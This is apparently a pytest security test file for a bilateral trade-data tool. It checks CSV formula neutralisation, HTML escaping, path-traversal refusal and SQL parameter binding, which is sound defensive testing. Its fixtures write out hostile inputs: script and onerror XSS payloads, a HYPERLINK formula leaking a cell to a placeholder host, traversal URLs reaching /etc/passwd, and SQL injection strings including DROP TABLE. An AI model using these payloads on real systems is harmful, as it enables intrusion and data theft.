"""What bilat writes out never runs what it read in: CSV exports neutralise spreadsheet formulas,
the HTML report escapes every text, the web API reads no path from a request and binds every
SQL value (an injection attempt is just an unknown country).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

import bilat.cli  # noqa: F401 - registers every command group on the app
from bilat.cli.app import OutputFormat, app, emit
from bilat.errors import UnknownCountryError
from bilat.store import Store

HOSTILE_TEXT = '<script>window.__pwned = 1; document.title = "pwned"</script><img src=x onerror="window.__pwned = 1">'
INJECTION = "ISR' OR 1=1--"


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_neutralises_formula_cells(capsys: pytest.CaptureFixture[str]) -> None:
    frame = pd.DataFrame(
        {
            "name": ["=HYPERLINK(\"http://x.invalid\",\"click\")", "+SUM(A1:A9)", "-2+3", "@cmd", "\tstart", "plain", "-12.5"],
            "value": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, -7.0],
        }
    )
    emit(frame, OutputFormat.csv)
    rows = _csv_rows(capsys.readouterr().out)
    assert rows[0] == ["name", "value"]
    names = [r[0] for r in rows[1:]]
    # Every cell a spreadsheet would evaluate starts with a quote; text that is a number stays a number.
    assert names == ["'=HYPERLINK(\"http://x.invalid\",\"click\")", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'\tstart", "plain", "-12.5"]
    assert [r[1] for r in rows[1:]][-1] == "-7.0"


def test_news_list_csv_neutralises_a_formula_title(tmp_path: Path) -> None:
    article = tmp_path / "formula.txt"
    article.write_text(
        "=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"Trade pact signed\")\n"
        "Exports of machinery rose again this year, the ministry said.\n",
        encoding="utf-8",
    )
    runner = CliRunner()
    added = runner.invoke(app, ["news", "add", str(article), "--format", "json"])
    assert added.exit_code == 0, added.output
    listed = runner.invoke(app, ["news", "list", "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    rows = _csv_rows(listed.stdout)
    title = rows[1][rows[0].index("title")]
    assert title.startswith("'=HYPERLINK(")


def test_html_report_escapes_every_text_slot() -> None:
    import plotly.graph_objects as go

    from bilat.report.model import Report, Section, Table
    from bilat.report.render import html as render_html

    section = Section(
        name="claims",
        title=f"Claims {HOSTILE_TEXT}",
        paragraphs=[f"An article said {HOSTILE_TEXT}"],
        tables=[Table("t", f"Caption {HOSTILE_TEXT}", pd.DataFrame({f"col {HOSTILE_TEXT}": [HOSTILE_TEXT]}))],
        figures=[go.Figure(go.Bar(x=[HOSTILE_TEXT, "</script><script>window.__pwned=1</script>"], y=[1, 2], name=HOSTILE_TEXT))],
        notes=[f"note {HOSTILE_TEXT}"],
        preformatted=HOSTILE_TEXT,
    )
    report = Report(
        a="ISR", b="JPN", names={"ISR": f"Israel {HOSTILE_TEXT}", "JPN": "Japan"}, years=(2015, 2016),
        sections=[section], summary=pd.DataFrame(), generated_at=dt.datetime(2024, 1, 1),
    )
    page = render_html.render(report)
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", page, flags=re.DOTALL)
    markup = re.sub(r"<script[^>]*>.*?</script>", "", page, flags=re.DOTALL)
    # Outside scripts, every text from the data is escaped: no tag or attribute of ours survives.
    assert "<img" not in markup and "onerror=" not in markup.replace("onerror=&quot;", "")
    assert markup.count("&lt;script&gt;window.__pwned") >= 6  # title, heading, paragraph, caption, cell, note...
    # Inside scripts (the inlined figure JSON), no string can close the element early.
    figure_scripts = [js for js in scripts if "__pwned" in js]
    assert figure_scripts and all("</" not in js for js in figure_scripts)


@pytest.fixture
def client(tmp_path: Path):  # noqa: ANN201
    from bilat.web import create_app

    with TestClient(create_app(Store(tmp_path / "store"))) as c:
        yield c


@pytest.mark.parametrize(
    "url",
    [
        "/static/../../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/api/countries/..%2f..%2f..%2fetc%2fpasswd",
        "/api/hs/..%2f..%2fetc%2fpasswd",
        "/api/flows/..%2F..%2Fetc%2Fpasswd/JPN",
        "/article.html?id=../../../../etc/passwd",
        "/api/articles/..%2f..%2fetc%2fpasswd",
        "/api/sources?path=/etc/passwd",
    ],
)
def test_web_never_serves_a_path_from_a_request(client: TestClient, url: str) -> None:
    response = client.get(url)
    assert "root:x:0:0" not in response.text
    if url.startswith("/article.html"):
        assert response.status_code == 200  # the static page; its script asks /api/articles/<id>, which is an integer
    elif url.startswith("/api/sources"):
        assert response.status_code == 200 and "/etc/passwd" not in response.text
    else:
        assert 400 <= response.status_code < 500


@pytest.mark.parametrize(
    "url",
    [
        f"/api/flows/{INJECTION}/JPN",
        f"/api/composition/ISR/{INJECTION}",
        f"/api/countries/{INJECTION}",
        f"/api/profile/{INJECTION}/JPN",
        f"/api/claims?pair={INJECTION}-JPN",
        f"/api/targets/status?pair=JPN-{INJECTION}",
    ],
)
def test_sql_injection_in_a_country_is_an_unknown_country(client: TestClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code in (404, 422), response.text
    detail = response.json()["detail"]
    # Refused by the parameter's form (a pair is two ISO3 codes) or as an unknown country; never SQL.
    assert "ISR' OR 1=1--" in detail or "country" in detail.lower() or "ISO3" in detail
    for sql_error in ("syntax", "parser", "binder", "catalog error", "duckdb"):
        assert sql_error not in detail.lower()
    assert response.json().get("data") is None


def test_sql_injection_through_the_python_api_is_an_unknown_country() -> None:
    from bilat import queries
    from bilat.nomenclature.countries import resolve_country

    with pytest.raises(UnknownCountryError, match=r"ISR' OR 1=1--"):
        resolve_country(INJECTION)
    with pytest.raises(UnknownCountryError):
        queries.pair_flows(INJECTION, "JPN", None, None, "duckdb")


def test_sql_injection_in_a_stored_article_is_stored_as_text(tmp_path: Path) -> None:
    """News are written with bound parameters: a title full of quotes round-trips unchanged."""
    article = tmp_path / "quotes.txt"
    title = "Robert'); DROP TABLE news_articles;-- and ' OR '1'='1 trade talks"
    article.write_text(title + "\nExports of machinery rose again this year, the ministry said.\n", encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(app, ["news", "add", str(article)]).exit_code == 0
    listed = runner.invoke(app, ["news", "list", "--format", "json"])
    assert listed.exit_code == 0
    assert title[:77] in listed.stdout.replace('\\"', '"')
